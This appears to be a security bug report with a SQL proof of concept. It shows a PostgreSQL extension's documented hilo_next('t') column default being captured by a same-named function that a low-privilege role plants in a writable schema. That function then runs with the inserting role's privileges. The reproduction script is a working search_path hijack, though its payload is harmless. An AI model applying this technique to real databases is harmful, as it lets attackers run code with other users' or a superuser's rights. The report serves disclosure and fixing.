-- 12: the documented default DEFAULT hilo_next('t') (an unknown literal) resolves to a planted
--     hilo_next(text) in any writable schema on the table owner's search_path (public in every
--     database created before PostgreSQL 15, or a shared schema): every insert then runs the
--     planted function as the inserting role (superuser included). The hints then lead the owner
--     to "fix" it with hilo_create_key('cap','id'), which succeeds and leaves the capture in place.
-- Severity: MEDIUM (needs CREATE on a schema on the victim's path; same class as CVE-2018-1058,
--     but the docs teach the capturable spelling as THE form - drizzle/TypeORM sections too - and
--     the extension is not relocatable into a protected schema). pg_dump writes the safe
--     'public.t'::regclass form.
-- Expected: docs/hints recommend hilo_next('t'::regclass) (or the function takes the name in a
--     form that no text overload outranks); hilo_create_key(t, col) refuses a column whose default
--     is not a call of id_gen's hilo_next. Actual: capture, then a "successful" hilo_create_key.
CREATE ROLE mallory LOGIN;
GRANT CREATE ON SCHEMA public TO mallory;    -- as in databases created before PostgreSQL 15
SET ROLE mallory;
CREATE FUNCTION public.hilo_next(t text) RETURNS bigint LANGUAGE sql AS $$ SELECT 424242::bigint $$;
RESET ROLE;
CREATE TABLE cap (id bigint PRIMARY KEY DEFAULT hilo_next('cap'), v text);  -- as docs/hilo.md says
\d cap                                        -- Default: hilo_next('cap'::text)
SELECT hilo_create_key('cap');                -- 22023 ... HINT: hilo_create_key('cap', 'id')
SELECT hilo_create_key('cap', 'id');          -- "ok"
INSERT INTO cap(v) VALUES ('x') RETURNING id; -- 424242: mallory's code ran as the inserting role
